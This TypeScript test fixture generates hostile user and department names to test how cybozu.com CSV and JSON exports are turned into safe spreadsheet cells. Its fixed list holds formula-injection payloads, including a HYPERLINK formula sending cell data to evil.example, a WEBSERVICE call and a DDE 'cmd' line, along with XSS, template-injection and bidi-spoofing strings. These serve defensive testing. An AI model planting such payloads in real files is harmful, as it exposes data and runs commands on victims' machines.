/** Texts that somebody may have put into a name to trick a spreadsheet, a reader of CSV, or a pair of eyes. */

export interface HostileUser {
  login: string;
  name: string;
  departmentCode: string;
  departmentName: string;
}

export const formulaBeginnings = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/** Blanks of every kind; the first four are trimmed where they are read. */
const blanks = [' ', '\t', '\u00a0', '\u3000', '\u2003', '\u2009', '\u1680', '\u200b', '\ufeff', '\v', '\f', '\u0085'];
const lineBreaks = ['\r', '\n', '\r\n', '\u2028', '\u2029'];
const bidirectionalControls = ['\u202e', '\u202a', '\u2066', '\u2069', '\u200e', '\u200f', '\u061c'];
const zeroWidth = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'];

/** What may stand before a formula so that it is not seen. */
export const formulaPrefixes: readonly string[] = [
  '',
  ...blanks,
  ...lineBreaks,
  ...bidirectionalControls,
  ...zeroWidth,
  ...['\0', "\0'", "'\0", '\0 \0', "'", "''"],
];

/** One of each, whole. */
export const fixedTexts: readonly string[] = [
  ...formulaBeginnings.flatMap((begin) => [`${begin}1+1`, `${begin}SUM(A1:B2)`, `'${begin}1+1`, `''${begin}2+2`]),
  ...formulaPrefixes.flatMap((before) => [
    `${before}=1+1`,
    `${before}＝1+1`,
    `${before}x`,
    `x${before}=y`,
    `x${before}`,
  ]),
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example/")',
  '{=1+1}',
  '-2+3+cmd|x!y',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</textarea><!--',
  '${7*7}{{7*7}}',
  '"',
  '""',
  '"""',
  'O"Brien, "Bob"',
  '",="',
  '"\r\n"x","y","z"',
  "'",
  "''",
  ',',
  ',,,"',
  ';\t|',
  'sep=;',
  '-',
  '－',
  'NULL',
  '\\N',
  '\\"',
  '\\',
  '%0A=1',
  'a\0b',
  '\0',
  '\u001b[31mred\u001b[0m',
  '\u0007\u0008\u007f\u009b31m',
  '𠮷野家 👩‍👩‍👧 e\u0301 ｶﾀｶﾅ',
  '\u202eexe.vsc\u202c',
  '\ud800',
  'a\udc00b',
  '\udc00\ud800',
];

/** One of a megabyte, one of a megabyte of quotes, one that is a formula as long. */
export const longTexts: readonly string[] = [
  `名${'x'.repeat(1 << 20)}`,
  '"'.repeat(1 << 20),
  `=${'1+'.repeat(1 << 19)}1`,
];

/** A generator of numbers below a bound (mulberry32), the same for the same seed. */
export function randomBelow(seed: number): (bound: number) => number {
  let state = seed >>> 0;
  return (bound) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % bound;
  };
}

const pieces = [
  ...formulaBeginnings,
  ...blanks,
  ...lineBreaks,
  ...bidirectionalControls,
  ...zeroWidth,
  ...['"', '"', "'", "'", ',', ';', '\0', '\\', '<b>', '&', '|', '\u001b', '\ud800', '\udfff'],
  ...['a', '1', 'Z', '佐', '藤', '𠮷', 'é', '(1)'],
];

/** A text of a few such pieces. */
export function randomText(below: (bound: number) => number): string {
  return Array.from({ length: below(9) }, () => pieces[below(pieces.length)]).join('');
}

/**
 * A user for each text, which stands in all four of the cells. A number behind it tells logins and codes apart, as the
 * first of two equal ones wins. (`*` means an unchanged cell in an export, and a login `guest/...` a guest.)
 */
export function usersNamed(texts: readonly string[]): HostileUser[] {
  return texts.map((text, index) => ({
    login: `${text}L${index}`,
    name: text,
    departmentCode: `${text}C${index}`,
    departmentName: `${text}N${index}`,
  }));
}

const quoted = (cells: readonly string[]): string =>
  `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`;

/** The exports that name these users, as cybozu.com writes them. */
export function exportsAsCsv(users: readonly HostileUser[]): {
  users: string;
  departments: string;
  memberships: string;
} {
  return {
    users:
      quoted(['Login Name', 'Display Name', 'Status']) +
      users.map(({ login, name }) => quoted([login, name, '1'])).join(''),
    departments:
      quoted(['Department Code', 'Display Name', 'New Department Code', 'Parent Department Code', 'Description']) +
      users.map(({ departmentCode, departmentName }) => quoted([departmentCode, departmentName, '', '', ''])).join(''),
    memberships:
      quoted(['Login name', 'Department code 1', 'Job title code 1']) +
      users.map(({ login, departmentCode }) => quoted([login, departmentCode, ''])).join(''),
  };
}

/** The same as the User API's JSON; `JSON.stringify` escapes lone surrogates, as cybozu.com's would be. */
export function exportsAsJson(users: readonly HostileUser[]): {
  users: string;
  departments: string;
  memberships: string;
} {
  return {
    users: JSON.stringify({ users: users.map(({ login, name }) => ({ code: login, name, valid: true })) }),
    departments: JSON.stringify({
      organizations: users.map(({ departmentCode, departmentName }, index) => ({
        id: String(index + 1),
        code: departmentCode,
        name: departmentName,
        parentCode: null,
      })),
    }),
    memberships: JSON.stringify(
      users.map(({ login, departmentCode }) => ({
        code: login,
        organizationTitles: [{ organization: { code: departmentCode }, title: null }],
      })),
    ),
  };
}

const withoutBlanks = (text: string): string => text.replace(/^[ \t\u00a0\u3000]+|[ \t\u00a0\u3000]+$/g, '');

/** A cell that a spreadsheet could take for a formula, said once more and not as the core says it. */
const dangerous = /^['\0]*(?:[ \u00a0\u3000\0]*[=+\-@＝＋－＠\t\r])/u;

/** The cells of the table: trimmed where they were read, lone surrogates replaced, made harmless unless `raw`. */
export function expectedCells(users: readonly HostileUser[], raw: boolean): string[][] {
  return users.map((user) => {
    const login = withoutBlanks(user.login);
    const cells = [
      withoutBlanks(user.name) || login,
      login,
      withoutBlanks(user.departmentName),
      withoutBlanks(user.departmentCode),
    ];
    return cells
      .map((cell) => cell.replace(/\p{Surrogate}/gu, '\ufffd'))
      .map((cell) => (!raw && dangerous.test(cell) ? `'${cell}` : cell));
  });
}

export const countLoneSurrogates = (text: string): number => (text.match(/\p{Surrogate}/gu) ?? []).length;
